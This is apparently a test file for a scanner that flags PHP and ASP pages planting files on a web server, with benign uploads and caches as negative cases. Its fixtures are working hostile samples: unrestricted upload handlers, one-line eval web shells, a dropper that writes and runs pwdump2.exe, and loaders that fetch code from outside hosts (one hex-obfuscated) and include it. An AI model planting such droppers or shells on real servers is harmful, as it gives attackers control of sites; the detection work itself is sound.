/**
 * Pages that put files on the server (issue 27, tuning side): an upload saved under the name
 * the visitor gave, through variables; a dropper writing base64-encoded PHP, a one-line shell
 * it carries as a string, a program it then runs, or code it downloads.
 */
import { describe, expect, it } from 'vitest';
import { isAlarm, topFinding } from '../support/top-finding.js';

describe('uploads saved as sent, and droppers', () => {
  it('ranks an upload saved under the sent name, through variables, critical', () => {
    const page = `<?php
if (isset($_POST['Submit'])) {
  $dir = "";
  $name = $_FILES['image']['name'];
  $tmp = $_FILES['image']['tmp_name'];
  $to = $dir . $name;
  @move_uploaded_file($tmp, $to);
}
`;
    expect(topFinding('/var/www/html/up.php', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/saves an upload under the name the visitor gave/),
    });
  });

  it('does not alarm on an upload saved under a name the server makes', () => {
    const page = `<?php
$name = $_FILES['avatar']['name'];
$ext = strtolower(pathinfo($name, PATHINFO_EXTENSION)) === 'png' ? 'png' : 'jpg';
$to = __DIR__ . '/avatars/' . bin2hex(random_bytes(16)) . '.' . $ext;
move_uploaded_file($_FILES['avatar']['tmp_name'], $to);
`;
    expect(isAlarm('/var/www/html/avatar.php', page)).toBe(false);
  });

  it('does not alarm on an upload saved under the sent name with something of its own after it', () => {
    // phpList's attachments: the sent name with the time appended, in its temporary folder.
    const page = `<?php
if (isset($_FILES[$fieldname])) {
  $tmpfile = $_FILES[$fieldname]['tmp_name'];
  $remotename = $_FILES[$fieldname]['name'];
  $newtmpfile = $remotename.time();
  move_uploaded_file($tmpfile, $GLOBALS['tmpdir'].'/'.$newtmpfile);
}
`;
    expect(isAlarm('/var/www/html/lists/admin/send_core.php', page)).toBe(false);
    // A server page's extension written after it is the dropper's choice.
    const dropper = page.replace('$remotename.time()', "$remotename.'.php'");
    expect(topFinding('/var/www/html/up.php', dropper)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/saves an upload under the name the visitor gave/),
    });
  });

  it("ranks an upload's entry held whole and copied, or its bytes written, under the sent name critical", () => {
    const copied = `<?php
if (isset($_FILES['uk45'])) {
  $file = $_FILES['uk45'];
  $targetPath = './' . basename($file['name']);
  copy($file['tmp_name'], $targetPath);
}
`;
    const written = `<?php if (isset($_FILES["f"])) { file_put_contents($_FILES["f"]["name"], file_get_contents($_FILES["f"]["tmp_name"])); }`;
    expect(topFinding('/var/www/html/up.php', copied)?.severity).toBe('critical');
    expect(topFinding('/var/www/html/up2.php', written)?.severity).toBe('critical');
  });

  it('does not alarm on an upload whose sent name is checked against a pattern before it is saved', () => {
    const page = `<?php
$file = $_FILES['image'];
$file_name = $file['name'];
$file_path = $dir . $file_name;
if (!preg_match('/^[a-z0-9_-]+\\.(png|gif|jpe?g)$/i', $file_name)) throw new Exception('not an image');
move_uploaded_file($file['tmp_name'], $file_path);
`;
    expect(isAlarm('/var/www/html/shapes.php', page)).toBe(false);
  });

  it('does not alarm on an upload written under a name the server makes, nor the sent name logged', () => {
    const page = `<?php
$file = $_FILES['doc'];
$to = __DIR__ . '/store/' . sha1_file($file['tmp_name']);
file_put_contents($to, file_get_contents($file['tmp_name']));
file_put_contents(__DIR__ . '/store/index.txt', $file['name'] . "\n", FILE_APPEND);
`;
    expect(isAlarm('/var/www/html/store.php', page)).toBe(false);
  });

  it('ranks a file written with base64-encoded PHP critical', () => {
    const dropper = `$check = $_SERVER['DOCUMENT_ROOT'] . "/libraries/x.php";
$fp = fopen($check, "w+");
fwrite($fp, base64_decode('PD9waHAgZWNobyAiaGkiOyA/Pg=='));
fclose($fp);`;
    expect(topFinding('/var/www/html/i.php', dropper)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/dropper/),
    });
  });

  it('ranks a page writing out a program it carries as base64 critical', () => {
    // A Windows program's first bytes (MZ, its DOS header) as base64, over several lines.
    const mz = Buffer.concat([Buffer.from('MZ\x90\0\x03\0', 'latin1'), Buffer.alloc(300, 7)])
      .toString('base64')
      .replace(/.{76}/g, '$&\n');
    const dropper = `<?php
$pwdump = "${mz}";
function cf($name, $text) { $w = fopen($name, "w"); fputs($w, base64_decode($text)); fclose($w); }
cf("pwdump2.exe", $pwdump);
exec("pwdump2.exe", $out);`;
    expect(topFinding('/var/www/html/p.php', dropper)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/writes out a program it carries base64-encoded/),
    });
    // A test writing a fixture out for a file-type check runs nothing: a payload, not a drop.
    const fixture = dropper.replace('exec("pwdump2.exe", $out);', 'assert(mime($f) === "pe");');
    expect(topFinding('/var/www/html/p.php', fixture)?.severity).toBe('high');
    // Carried, and decoded elsewhere (a long page's end, read apart): a payload all the same.
    const carried = dropper.replace('base64_decode($text)', '$text');
    // With the run kept, the writer's one call names the program it writes, and runs it.
    expect(topFinding('/var/www/html/p.php', carried)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/writes a program and runs it \(pwdump2\.exe/),
    });
    expect(topFinding('/var/www/html/p.php', carried.replace(/exec\(.*/, ''))).toMatchObject({
      severity: 'high',
      reason: expect.stringMatching(/carrying a Windows or Linux program as base64/),
      attack: 'T1027.009',
    });
    // An image carried so (a spacer GIF, a logo) is not a program.
    const gif = Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(300, 7)]).toString('base64');
    expect(isAlarm('/var/www/html/p.php', `<?php\n$logo = "${gif}";\n`)).toBe(false);
  });

  it('does not alarm on a file written with a decoded image', () => {
    const page = `<?php
file_put_contents(__DIR__ . '/cache/pixel.gif', base64_decode('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'));
`;
    expect(isAlarm('/var/www/html/pixel.php', page)).toBe(false);
  });

  it('ranks a handler that writes out a one-line shell it carries critical, and an installer writing its settings not', () => {
    const handler = `<%@ WebHandler Language="C#" class="Handler" %>
using System; using System.Web; using System.IO;
public class Handler : IHttpHandler {
  public void ProcessRequest(HttpContext context) {
    StreamWriter file1 = File.CreateText(context.Server.MapPath("root.asp"));
    file1.Write("<%response.clear:execute request(\\"root\\"):response.End%>");
    file1.Close();
  }
  public bool IsReusable { get { return false; } }
}`;
    expect(topFinding('/inetpub/wwwroot/a.ashx', handler)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/writes out a web shell it carries \(classic ASP/),
    });
    // Classic ASP writing a PHP one-liner, with VBScript's doubled quotes.
    const asp = `<%
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile(Server.MapPath("x.php"), True)
f.Write "<?php @eval($_POST[""pass""]); ?>"
f.Close
%>`;
    expect(isAlarm('/inetpub/wwwroot/w.asp', asp)).toBe(true);
    const installer = `<?php
$config = "<?php\\n\\$db_host = \\"" . addslashes($host) . "\\";\\n\\$db_name = \\"app\\";\\ndefine('SITE', 'x');\\n";
file_put_contents(__DIR__ . '/config.php', $config);
echo "Settings saved.";
`;
    expect(isAlarm('/var/www/html/install.php', installer)).toBe(false);
  });

  it('ranks a page that writes a script and runs it critical, and one that runs a program of the system not', () => {
    const dropper = `<%
Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile("c:\\net.vbs", True)
f.write "Set x = CreateObject(""Microsoft.XMLHTTP"")" & vbcrlf
f.close
Set WshShell = CreateObject("WScript.Shell")
WshShell.Run "c:\\net.vbs", 0, false
%>`;
    expect(topFinding('/inetpub/wwwroot/a.asp', dropper)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/writes a program and runs it/),
    });
    const report = `<?php
file_put_contents('/var/cache/app/report.txt', $summary);
exec('/usr/bin/lpr /var/cache/app/other.txt');
`;
    expect(topFinding('/var/www/html/print.php', report)?.reason ?? '').not.toMatch(
      /writes a program/,
    );
    // A file that is no program, named in the command that reads it.
    const build = `<?php
file_put_contents('composer.json', json_encode($deps));
echo shell_exec('composer validate composer.json');
`;
    expect(topFinding('/var/www/html/build.php', build)?.reason ?? '').not.toMatch(
      /writes a program/,
    );
  });

  it('ranks a page that saves code it downloads as a server page critical, and a feed cache not', () => {
    const dropper = `<?php
$url = 'https://raw.githubusercontent.com/x/y/main/403.php';
$content = file_get_contents($url);
$name = 'mini.php';
if (file_put_contents($name, $content)) echo "ok";
`;
    expect(isAlarm('/var/www/html/mini.php', dropper)).toBe(true);
    const cache = `<?php
$feed = file_get_contents('https://example.org/news.rss');
file_put_contents(__DIR__ . '/cache/news.xml', $feed);
file_put_contents(__DIR__ . '/cache/stamp.php', '<?php return ' . time() . ';');
`;
    expect(isAlarm('/var/www/html/feed.php', cache)).toBe(false);
  });

  it('ranks a page that saves a downloaded Perl CGI beside its .htaccess critical, and a downloaded log not', () => {
    const dropper = `<?php
@mkdir("cg");
$src = "http://example.net/perltext/cgi.txt";
$file = file_get_contents($src);
$open = fopen("cg/cgi.pl", 'w');
fwrite($open, $file);
fclose($open);
file_put_contents("cg/.htaccess", "AddHandler cgi-script .pl");
`;
    expect(topFinding('/var/www/html/p.php', dropper)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/saves code it downloads as a server page/),
    });
    const log = `<?php
$src = "https://example.net/status/today.txt";
file_put_contents(__DIR__ . '/logs/status.log', file_get_contents($src));
`;
    expect(isAlarm('/var/www/html/status.php', log)).toBe(false);
  });

  it("ranks a page saving what the visitor's URL returns as a server page critical, and an avatar fetch not", () => {
    const direct = `<?php file_put_contents("x.php", file_get_contents($_GET["u"]));`;
    expect(topFinding('/var/www/html/g.php', direct)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/saves code it downloads as a server page/),
    });
    const held = `<?php
$u = $_POST['url'];
$ch = curl_init();
curl_setopt($ch, CURLOPT_URL, $u);
curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
$body = curl_exec($ch);
file_put_contents(__DIR__ . '/' . 'wp-conf.php', $body);
`;
    expect(topFinding('/var/www/html/h.php', held)?.reason).toMatch(
      /saves code it downloads as a server page/,
    );
    const avatar = `<?php
$img = file_get_contents($_POST['avatar_url']);
file_put_contents(__DIR__ . '/avatars/' . $user_id . '.png', $img);
`;
    expect(isAlarm('/var/www/html/avatar.php', avatar)).toBe(false);
  });

  it('ranks downloaded code written through fopen() to a page named in a variable critical, and a downloaded archive not', () => {
    const dropper = `<?php
function grab($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); }
$upload = $_SERVER['DOCUMENT_ROOT'] . "/css.php";
$code = grab("https://raw.githubusercontent.com/x/y/master/cah.php");
$open = fopen($upload, 'w');
fwrite($open, $code);
fclose($open);
`;
    expect(topFinding('/var/www/html/rss.php', dropper)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/saves code it downloads as a server page/),
    });
    const updater = `<?php
$zip = file_get_contents('https://downloads.example.org/app-2.1.zip');
$h = fopen(__DIR__ . '/tmp/update.zip', 'wb');
fwrite($h, $zip);
fclose($h);
$version = include __DIR__ . '/version.php';
`;
    expect(isAlarm('/var/www/html/update.php', updater)).toBe(false);
  });

  it('ranks code fetched through its own curl function from a hidden address, written out and included, critical', () => {
    // The address is hex: the page spells out no URL, and reads no request input.
    const loader = `<?php
function fetch_it($u) {
  $c = curl_init($u);
  curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);
  curl_setopt($c, CURLOPT_SSL_VERIFYPEER, 0);
  $r = curl_exec($c);
  curl_close($c);
  return $r;
}
function unhex($h) { $s = ''; for ($i = 0; $i < strlen($h); $i += 2) $s .= chr(hexdec(substr($h, $i, 2))); return $s; }
$body = fetch_it(unhex('68747470733a2f2f7061737465'));
$tmp = tempnam(sys_get_temp_dir(), 'sess');
file_put_contents($tmp, $body);
include $tmp;
unlink($tmp);
`;
    expect(topFinding('/var/www/html/about.php', loader)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/runs code it downloads/),
    });
    // The same function's answer cached as a PHP value, or as data, runs nothing it fetched.
    const cache = `<?php
function api_get($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); }
$rates = json_decode(api_get($settings['rates_endpoint']), true);
file_put_contents($cacheFile, '<?php return ' . var_export($rates, true) . ';');
$rates = include $cacheFile;
file_put_contents(__DIR__ . '/cache/rates.json', api_get($settings['rates_endpoint']));
`;
    expect(isAlarm('/var/www/html/rates.php', cache)).toBe(false);
  });

  it('ranks code fetched into a tmpfile() and included by its path critical, and a compiled template not', () => {
    const loader = `<?php
$h = tmpfile();
fwrite($h, file_get_contents("\\x68\\x74\\x74\\x70\\x73://paste.example/raw/fm.php"));
include stream_get_meta_data($h)["uri"];
fclose($h);
`;
    expect(topFinding('/var/www/html/wp-blog.php', loader)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/runs code it downloads/),
    });
    const through = `<?php
$t = tmpfile();
$path = stream_get_meta_data($t)['uri'];
$body = file_get_contents('https://paste.example/raw/fm.php');
fputs($t, $body);
require $path;
`;
    expect(topFinding('/var/www/html/x.php', through)?.reason).toMatch(/runs code it downloads/);
    // A template engine runs what it compiled from the site's own files the same way.
    const template = `<?php
$source = file_get_contents(__DIR__ . '/views/' . $view . '.tpl');
$h = tmpfile();
fwrite($h, compile_template($source));
include stream_get_meta_data($h)['uri'];
`;
    expect(isAlarm('/var/www/html/render.php', template)).toBe(false);
  });

  it('ranks an upload saved under the sent name critical when its extension is only shown', () => {
    const page = `<?php
$server_web = $_SERVER["DOCUMENT_ROOT"];
$nama_file  = $_FILES["upl_file"]["name"];
$tmp_upload = $server_web.'/'.$nama_file;
$ekst_file  = pathinfo($nama_file, PATHINFO_EXTENSION);
if (isset($_POST["upload"])) {
  if (@copy($_FILES["upl_file"]["tmp_name"], $tmp_upload)) {
    echo '<li>File: '.$nama_file.'</li><li>Type: '.$ekst_file.'</li>';
  }
}`;
    expect(topFinding('/var/www/html/up.php', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/saves an upload under the name the visitor gave/),
    });
  });

  it('does not alarm on an upload whose extension, kept in a variable, is checked against a list', () => {
    const page = `<?php
$name = $_FILES["photo"]["name"];
$ext = strtolower(pathinfo($name, PATHINFO_EXTENSION));
$allowed = array('jpg', 'png', 'gif');
if (!in_array($ext, $allowed)) { die('not an image'); }
move_uploaded_file($_FILES["photo"]["tmp_name"], "gallery/" . $name);`;
    expect(isAlarm('/var/www/html/gallery/upload.php', page)).toBe(false);
  });

  it('ranks an upload saved as a server page the page names critical, and one saved as an image not', () => {
    const dropper = `<FORM ENCTYPE="multipart/form-data" METHOD="POST">
<INPUT NAME="userfile" TYPE="file"><INPUT TYPE="submit">
</FORM>
<?
move_uploaded_file($userfile, "entrika.php");
?>`;
    expect(topFinding('/var/www/html/uploader.php', dropper)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/saves an upload as a server page/),
    });
    const avatar = `<?php
if (is_uploaded_file($_FILES['avatar']['tmp_name'])) {
  move_uploaded_file($_FILES['avatar']['tmp_name'], "uploads/avatar-" . $uid . ".png");
}`;
    expect(isAlarm('/var/www/html/profile.php', avatar)).toBe(false);
  });

  it('ranks code downloaded into a page opened in the same call, or through a URL held in a variable, critical', () => {
    const inline = `<h1>hi<? @fwrite(fopen('w.php','w'),file_get_contents('https://paste.example/raw/w.txt')); ?></h1>`;
    expect(topFinding('/var/www/html/logo.php', inline)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/saves code it downloads as a server page/),
    });
    const held = `<?php
$src = 'https://paste.example/raw/tiny';
$body = file_get_contents($src);
$tmp = tempnam('/dev/shm', 'x');
file_put_contents($tmp, $body);
include $tmp;
`;
    // Written to a temporary file and included: run, not installed as a page.
    expect(topFinding('/var/www/html/wp-cron2.php', held)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/runs code it downloads/),
    });
    // A feed cached as data, through the same calls, installs no page.
    const feed = `<?php
$src = 'https://news.example/feed.xml';
file_put_contents(__DIR__ . '/cache/feed.xml', file_get_contents($src));
$h = fopen(__DIR__ . '/cache/when.txt', 'w'); fwrite($h, time());
`;
    expect(isAlarm('/var/www/html/feed.php', feed)).toBe(false);
  });

  it('follows the sent name through substr() and a case change, not through a hash', () => {
    const kept = `<?php
$ext = substr($_FILES["file"]["name"], -4, 4);
$base = substr($_FILES["file"]["name"], 0, -4) . $ext;
$to = strtolower($base);
if (is_uploaded_file($_FILES["file"]["tmp_name"])) move_uploaded_file($_FILES["file"]["tmp_name"], $to);
`;
    expect(topFinding('/var/www/html/img.php', kept)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/saves an upload under the name the visitor gave/),
    });
    const hashed = `<?php
$to = 'uploads/' . substr(md5($_FILES["file"]["name"] . time()), 0, 12) . '.jpg';
move_uploaded_file($_FILES["file"]["tmp_name"], $to);
`;
    expect(isAlarm('/var/www/html/img.php', hashed)).toBe(false);
  });

  it('ranks what the visitor sends, written whole into a server page it names, critical', () => {
    for (const page of [
      `<?php file_put_contents('shell.php', $_POST['c']);`,
      `<?php file_put_contents(__DIR__ . '/cache.php', '<?php ' . $_POST['code']);`,
      `<?php $d = $_REQUEST['d'];\n$f = fopen("x.php", "w"); fwrite($f, base64_decode($d)); fclose($f);`,
      `<?php file_put_contents('../index.jsp', stripslashes(file_get_contents('php://input')));`,
    ])
      expect(topFinding('/var/www/html/w.php', page)).toMatchObject({
        severity: 'critical',
        reason: expect.stringMatching(/writes what the visitor sends, whole, into a server page/),
      });
  });

  it('leaves an installer writing the visitor’s values into its configuration, and data pages, alone', () => {
    const installer = `<?php
$config = "<?php\\n\\$db_host = '" . addslashes($_POST['host']) . "';\\n";
file_put_contents('config.php', $config);
file_put_contents('../config.inc.php', "<?php define('DB', '" . $_POST['db'] . "');");
file_put_contents('notes.txt', $_POST['note']);
`;
    expect(isAlarm('/var/www/html/install.php', installer)).toBe(false);
  });
});
